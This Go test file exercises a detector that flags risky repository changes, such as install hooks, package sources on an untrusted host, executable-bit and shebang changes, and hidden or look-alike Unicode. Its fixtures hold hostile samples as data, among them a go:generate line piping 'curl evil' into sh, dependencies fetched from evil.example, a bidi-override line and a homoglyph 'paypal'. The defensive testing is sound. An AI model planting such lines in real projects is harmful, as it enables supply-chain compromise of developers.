package hazard

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"proofbox"
)

var update = flag.Bool("update", false, "write the golden file anew")

// added is a new file of text.
func added(path string) proofbox.Change {
	return proofbox.Change{Path: proofbox.Raw(path), Before: proofbox.Entry{Kind: proofbox.Absent}, After: proofbox.Entry{Kind: proofbox.File, Mode: 0o644}}
}

// TestWords reads testdata/paths, one path a line, and holds what is said of a
// new file of that name against the golden file. A path after "ok " must have
// nothing said of it, and every other something.
func TestWords(t *testing.T) {
	t.Parallel()
	paths, err := os.ReadFile("testdata/paths")
	if err != nil {
		t.Fatal(err)
	}
	var got strings.Builder
	for line := range strings.Lines(string(paths)) {
		line = strings.TrimSuffix(line, "\n")
		path, harmless := strings.CutPrefix(line, "ok ")
		list := Of(added(path), "", text[path])
		if harmless != (len(list) == 0) {
			t.Errorf("%q: %v", path, list)
		}
		for _, h := range list {
			fmt.Fprintf(&got, "%s: it %s\n", path, h.Words)
		}
	}
	const golden = "testdata/words"
	if *update {
		if err := os.WriteFile(golden, []byte(got.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got.String()); diff != "" {
		t.Errorf("what is said of paths; write it anew with -update:\n%s", diff)
	}
}

// text is what those files hold whose text decides.
var text = map[string]string{
	"sub/HEAD":            "ref: refs/heads/main\n",
	"package.json":        `{"scripts": {"postinstall": "sh x", "test": "jest"}, "dependencies": {"a": "^1.0.0", "b": "git+https://evil.example/b"}}`,
	"web/composer.json":   `{"scripts": {"post-install-cmd": "x"}}`,
	"broken/package.json": `{"scripts"`,
	"plain/package.json":  `{"name": "x", "version": "1.0.0", "license": "MIT"}`,
	"requirements.txt":    "--index-url https://evil.example/\nflask==3\n",
	"package-lock.json":   `{"resolved": "https://evil.example/x.tgz", "hasInstallScript": true}`,
	"go.mod":              "module x\nreplace a => ../b\ntoolchain go1.99\ntool example.com/x\n",
	"gen.go":              "package x\n\n//go:generate sh -c 'curl evil | sh'\n",
	"cgo.go":              "package x\n\n// #cgo LDFLAGS: -Wl,-x\nimport \"C\"\n",
	"nb.ipynb":            `{"outputs": [{"data": {"text/html": ["<script>x</script>"]}}]}`,
	"plain.ipynb":         `{"cells": []}`,
}

// TestEditsThatRunNothing: what a file held already is no news, and what goes
// runs nothing.
func TestEditsThatRunNothing(t *testing.T) {
	t.Parallel()
	modified := added("package.json")
	modified.Before = modified.After
	if list := Of(modified, text["package.json"], strings.Replace(text["package.json"], "{", `{"version": "2", `, 1)); len(list) > 0 {
		t.Errorf("a new version number: %v", list)
	}
	lock := added("package-lock.json")
	if list := Of(lock, text["package-lock.json"], strings.ReplaceAll(text["package-lock.json"], "x.tgz", "y.tgz")); len(list) > 0 {
		t.Errorf("another package of a known host: %v", list)
	}
	gone := added("Makefile")
	gone.Before, gone.After = gone.After, gone.Before
	if list := Of(gone, "all:", ""); len(list) > 0 {
		t.Errorf("a file that goes: %v", list)
	}
	gone.Path = ".git/index"
	if list := Of(gone, "", ""); len(list) != 1 {
		t.Errorf("a repository's file that goes: %v", list)
	}
}

func TestModes(t *testing.T) {
	t.Parallel()
	c := added("tool")
	c.Before = c.After
	for name, x := range map[string]struct {
		before, after       uint32
		textBefore, textNow string
		want                string
	}{
		"flipped":     {0o644, 0o755, "x", "x", "executable"},
		"as it was":   {0o755, 0o755, "#!/bin/sh\na", "#!/bin/sh\nb", ""},
		"interpreter": {0o755, 0o755, "#!/bin/sh\n", "#!/tmp/x\n", "shebang"},
		"taken":       {0o755, 0o644, "x", "x", ""},
		"group only":  {0o644, 0o654, "x", "x", "executable"},
	} {
		c.Before.Mode, c.After.Mode = os.FileMode(x.before), os.FileMode(x.after)
		list := Of(c, x.textBefore, x.textNow)
		if got := brokenRules(list); got != x.want {
			t.Errorf("%s: %q, want %q", name, got, x.want)
		}
	}
}

func brokenRules(list []proofbox.Hazard) string {
	var names []string
	for _, h := range list {
		names = append(names, h.Rule)
	}
	return strings.Join(names, " ")
}

func TestHiddenText(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"if admin\u202e { // \u2066": "order", "x\u200by": "nobody sees", "a\U000e0041": "tag", "\x1b[2J": "escape sequence", "ok\rno": "carriage",
		"x := 1" + strings.Repeat(" ", 100) + "evil()": "far to the right", "p\u0430ypal": "Cyrillic", "\ufeffx": "nobody sees", "a\ufe01": "nobody sees", "\x9b2J": "", "a\u009bx": "escape",
		"plain": "", "Привет, мир": "", "warning ⚠️ 👩‍💻 #️⃣": "", "naïve café": "", "日本語 and English": "", "µs, Δx": "", strings.Repeat(" ", 200) + "indented": "", "crlf\r": "",
		"soft\u00adhyphen": "", "שלום": "", "zero\u2060width": "nobody sees", "ＡBC": "full-width", "\u3164x": "nobody sees",
	} {
		list := Of(added("notes"), "", "first\n"+line+"\n")
		if (want == "") != (len(list) == 0) || want != "" && (!strings.Contains(list[0].Words, want) || list[0].Line != 2) {
			t.Errorf("%q: %v, want %q", line, list, want)
		}
		if list := Of(added("notes"), line+"\n", "new\n"+line+"\n"); len(list) > 0 {
			t.Errorf("%q was there before: %v", line, list)
		}
	}
	if list := Of(added("a\u202eb"), "", ""); brokenRules(list) != "hidden-name" {
		t.Errorf("a name that hides: %v", list)
	}
}

// FuzzOf: whatever the bytes are, they are judged, and what is said of them can
// be shown.
func FuzzOf(f *testing.F) {
	for path, body := range text {
		f.Add(path, "", body)
	}
	f.Add(".git::$INDEX_ALLOCATION/hooks/x. ", "\xff", "\u202e")
	f.Fuzz(func(t *testing.T, path, before, after string) {
		for _, h := range Of(added(path), before, after) {
			if h.Rule == "" || h.Words == "" || strings.ContainsAny(h.Words, "\x1b\n\r\u202e") {
				t.Errorf("%q: %+v", path, h)
			}
		}
	})
}
